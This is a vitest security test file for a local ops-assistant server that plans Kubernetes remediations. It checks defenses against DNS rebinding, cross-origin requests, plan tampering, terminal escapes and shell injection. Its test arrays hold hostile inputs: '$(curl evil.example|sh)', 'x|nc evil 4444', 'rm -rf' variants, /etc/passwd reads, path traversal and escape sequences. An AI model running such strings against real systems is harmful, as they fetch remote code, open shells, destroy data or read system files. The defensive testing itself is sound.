/**
 * Integrity (issue 14, section 3) as attacks against a real `ops-assistant serve` on loopback:
 * cross-site requests (DNS rebinding, foreign origins, form and text bodies, approvals without the
 * token), malformed percent-encoding and cursors, a plan changed in the store after it was
 * proposed, and terminal escapes in what reaches a terminal or a JSON string.
 */
import http from 'node:http';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../../functions/cli/commands/serve.js';
import { jsonText, showControls } from '../../functions/core/stages/compose/index.js';
import type { Plan } from '../../functions/core/ask/index.js';
import { actionsFor, shellQuote } from '../../functions/core/stages/infer/actions.js';

let out: string;
let server: RunningServer;
let kube: http.Server;
const kubeRequests: string[] = [];

beforeAll(async () => {
  out = mkdtempSync(path.join(os.tmpdir(), 'ops-security-'));
  kube = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      kubeRequests.push(`${req.method} ${req.url}`);
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ kind: 'Scale', spec: { replicas: 4 } }));
    });
  });
  await new Promise<void>((r) => kube.listen(0, '127.0.0.1', r));
  server = await startServer({ outDir: out, useModel: false, approvalsEnabled: true, kubernetes: { endpoint: `http://127.0.0.1:${(kube.address() as { port: number }).port}`, token: 't' } });
}, 60_000);

afterAll(async () => {
  await server?.close();
  await new Promise<void>((r) => kube.close(() => r()));
  rmSync(out, { recursive: true, force: true });
});

/** One raw HTTP request (node:http lets a test set `Host`, which fetch forbids). */
function request(method: string, urlPath: string, headers: Record<string, string>, body?: string): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: server.port, method, path: urlPath, headers: { host: `127.0.0.1:${server.port}`, ...headers }, setHost: false }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

const json = { 'content-type': 'application/json' };
const ask = (question: string) => request('POST', '/v1/ask', json, JSON.stringify({ question }));

async function proposePlan(): Promise<Plan> {
  const res = await ask('scale deployment checkout to 4 replicas in namespace shop');
  expect(res.status).toBe(200);
  return (JSON.parse(res.body) as { plan: Plan }).plan;
}

describe('serve refuses cross-site requests', () => {
  const CROSS_SITE: ReadonlyArray<readonly [string, string, string, Record<string, string>, string | undefined, number]> = [
    ['DNS rebinding: a foreign Host on a read', 'GET', '/v1/diagnoses', { host: 'evil.example' }, undefined, 421],
    ['DNS rebinding: a foreign Host with our port', 'POST', '/v1/ask', { ...json, host: 'evil.example:PORT' }, '{"question":"scale deployment checkout to 9 replicas"}', 421],
    ['DNS rebinding on the browse page', 'GET', '/', { host: 'rebind.attacker.test:PORT' }, undefined, 421],
    ['a missing Host', 'GET', '/v1/diagnoses', { host: '' }, undefined, 421],
    ['a foreign Origin', 'POST', '/v1/ask', { ...json, origin: 'https://evil.example' }, '{"question":"restart deployment checkout"}', 403],
    ['a foreign Origin on our port but another host', 'POST', '/v1/diagnoses', { ...json, origin: 'http://evil.example:PORT' }, '{"evidence":"x"}', 403],
    ['Origin null (sandboxed iframe, file page)', 'POST', '/v1/ask', { ...json, origin: 'null' }, '{"question":"restart deployment checkout"}', 403],
    ['Sec-Fetch-Site cross-site', 'GET', '/v1/diagnoses', { 'sec-fetch-site': 'cross-site' }, undefined, 403],
    ['a form post (no preflight)', 'POST', '/v1/ask', { 'content-type': 'application/x-www-form-urlencoded' }, 'question=restart+deployment+checkout', 415],
    ['a text/plain post (no preflight)', 'POST', '/v1/diagnoses', { 'content-type': 'text/plain' }, '{"evidence":"OOMKilled"}', 415],
    ['a multipart post', 'POST', '/v1/ask', { 'content-type': 'multipart/form-data; boundary=x' }, '--x--', 415],
    ['a post without a content type', 'POST', '/v1/ask', {}, '{"question":"restart deployment checkout"}', 415],
  ];

  it.each(CROSS_SITE)('%s', async (_label, method, urlPath, headers, body, status) => {
    const h = Object.fromEntries(Object.entries(headers).map(([k, v]) => [k, v.replace('PORT', String(server.port))]));
    const res = await request(method, urlPath, h, body);
    expect(res.status).toBe(status);
    expect(res.headers['content-security-policy']).toContain("default-src 'none'");
  });

  it('accepts the same requests from this server (localhost and 127.0.0.1, same origin)', async () => {
    expect((await request('GET', '/v1/diagnoses', { host: `localhost:${server.port}` })).status).toBe(200);
    expect((await request('GET', '/v1/diagnoses', { origin: `http://127.0.0.1:${server.port}` })).status).toBe(200);
  });

  it('approves a plan only with the per-process token', async () => {
    const plan = await proposePlan();
    const approve = (headers: Record<string, string>) => request('POST', `/v1/plans/${plan.id}/approve`, { ...json, ...headers }, '{}');
    expect((await approve({})).status).toBe(401);
    expect((await approve({ 'x-ops-assistant-token': 'guess' })).status).toBe(401);
    expect((await approve({ 'x-ops-assistant-token': `${server.approvalToken}x` })).status).toBe(401);
    expect((await approve({ 'x-ops-assistant-token': server.approvalToken, origin: 'https://evil.example' })).status).toBe(403);
    kubeRequests.length = 0;
    expect((await approve({ 'x-ops-assistant-token': server.approvalToken })).status).toBe(200);
    expect(kubeRequests).toEqual(['PATCH /apis/apps/v1/namespaces/shop/deployments/checkout/scale']);
  });

  it('serves the browse page with a Content-Security-Policy that allows only its own script', async () => {
    const res = await request('GET', '/', {});
    expect(res.status).toBe(200);
    expect(res.headers['content-security-policy']).toMatch(/script-src 'sha256-[A-Za-z0-9+/=]+'/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['x-frame-options']).toBe('DENY');
  });
});

describe('malformed percent-encoding and cursors answer 400 with a code, never 500', () => {
  const MALFORMED = [
    '/v1/diagnoses/%E0%A4%A', '/v1/diagnoses/%zz', '/v1/diagnoses/%', '/v1/diagnoses/inc-%C0%AF', '/v1/diagnoses?cursor=%E0%A4%A',
    '/v1/diagnoses?cursor=not-a-cursor', '/v1/diagnoses?cursor=%7B%7D', `/v1/diagnoses?cursor=${Buffer.from('{"c":1}').toString('base64url')}`,
    '/v1/diagnoses?limit=%zz', '/?category=%E0%A4%A', '/v1/plans/%E0%A4%A/approve', '/v1/diagnoses/..%2F..%2Fetc%2Fpasswd',
  ];
  it.each(MALFORMED)('%s', async (urlPath) => {
    const method = urlPath.endsWith('/approve') ? 'POST' : 'GET';
    const res = await request(method, urlPath, method === 'POST' ? { ...json, 'x-ops-assistant-token': server.approvalToken } : {}, method === 'POST' ? '{}' : undefined);
    expect(res.status, res.body).toBeGreaterThanOrEqual(400);
    expect(res.status, res.body).toBeLessThan(500);
    expect((JSON.parse(res.body) as { error: { code: string } }).error.code).toMatch(/^[A-Z_]+$/);
  });
});

describe('a plan is approved only as proposed', () => {
  const TAMPER: ReadonlyArray<readonly [string, (p: Plan) => Plan]> = [
    ['more replicas', (p) => ({ ...p, kubernetes: { ...p.kubernetes!, requests: p.kubernetes!.requests.map((r) => ({ ...r, body: { spec: { replicas: 400 } } })) } })],
    ['another deployment', (p) => ({ ...p, kubernetes: { ...p.kubernetes!, requests: p.kubernetes!.requests.map((r) => ({ ...r, path: r.path.replace('checkout', 'payments') })) } })],
    ['another namespace', (p) => ({ ...p, kubernetes: { ...p.kubernetes!, requests: p.kubernetes!.requests.map((r) => ({ ...r, path: r.path.replace('/shop/', '/billing/') })) } })],
    ['an extra request', (p) => ({ ...p, kubernetes: { ...p.kubernetes!, requests: [...p.kubernetes!.requests, { method: 'DELETE', path: '/api/v1/namespaces/shop/pods/db-0', description: 'x' }] } })],
    ['a later expiry', (p) => ({ ...p, expiresAt: '2999-01-01T00:00:00.000Z' })],
    ['a new seal', (p) => ({ ...p, seal: '00'.repeat(16) })],
    ['no seal', (p) => ({ ...p, seal: undefined })],
  ];
  it.each(TAMPER)('a stored plan changed to %s is refused and audited', async (_label, change) => {
    const plan = await proposePlan();
    const file = path.join(out, 'plans', `${plan.id}.json`);
    writeFileSync(file, JSON.stringify(change(JSON.parse(readFileSync(file, 'utf8')) as Plan)));
    kubeRequests.length = 0;
    const res = await request('POST', `/v1/plans/${plan.id}/approve`, { ...json, 'x-ops-assistant-token': server.approvalToken }, '{}');
    expect(res.status).toBe(409);
    expect(kubeRequests).toEqual([]);
    const audit = readdirSync(path.join(out, 'audit'), { recursive: true }).map(String).filter((f) => f.endsWith('.json')).map((f) => JSON.parse(readFileSync(path.join(out, 'audit', f), 'utf8')) as { planId?: string; record?: { planId: string; result: string }; result?: string });
    const mine = audit.map((a) => a.record ?? a).filter((a) => (a as { planId?: string }).planId === plan.id);
    expect(mine.map((a) => (a as { result?: string }).result)).toEqual(['refused']);
  });
});

describe('terminal escapes never reach a terminal or a JSON string unescaped', () => {
  const ESCAPES = ['\u001b]0;PWNED\u0007', '\u001b[2J', '\u009b31m', '\u202eevil\u202c', '\u2066x\u2069', '\u0008\u0008ok', '\r fake line', '\u0085next'];
  it.each(ESCAPES)('%j', (escape) => {
    const shown = showControls(`evidence ${escape} line`);
    expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    const text = jsonText({ line: `evidence ${escape} line` });
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(JSON.parse(text)).toEqual({ line: `evidence ${escape} line` });
  });

  it('in API responses served over HTTP', async () => {
    const evidence = `OOMKilled \u001b]0;PWNED\u0007 \u202eevil`;
    const res = await request('POST', '/v1/diagnoses', json, JSON.stringify({ evidence }));
    expect(res.status).toBeLessThan(300);
    expect(res.body).not.toMatch(/[\u001b\u0007\u202e]/);
  });
});

describe('remediation commands never run what came from input', () => {
  const INJECTIONS = ['$(curl evil.example|sh)', '`reboot`', 'x; rm -rf ~', 'a && curl evil', "o'brien", 'x|nc evil 4444', '${IFS}cat${IFS}/etc/passwd', 'a\nrm -rf /', '--kubeconfig=/tmp/evil', 'Checkout'];
  it.each(INJECTIONS)('a namespace, pod or alarm named %j', (bad) => {
    const k8s = actionsFor('oom_killed', { namespace: bad, pod: bad, workload: `deployment/${bad}`, container: bad });
    for (const a of k8s) {
      expect(a.command ?? '').not.toContain(bad);
      if (a.command?.includes('<namespace>')) expect(a.description).toMatch(/not filled in: .*namespace .* is not a valid Kubernetes name/);
    }
    const aws = actionsFor('alarm_misconfigured', { platform: 'aws', alarm: bad, region: 'eu-west-1' });
    for (const a of aws) {
      const command = a.command ?? '';
      // The alarm name may hold any printable text: it is single-quoted, so nothing in it is expanded.
      if (!/[\n]/.test(bad) && command.includes('--alarm-name')) expect(command).toContain(/^[^"$`\\!]*$/.test(bad) ? `"${bad}"` : shellQuote(bad));
      expect(command).not.toMatch(/"[^"]*[$`][^"]*"/);
    }
  });
});
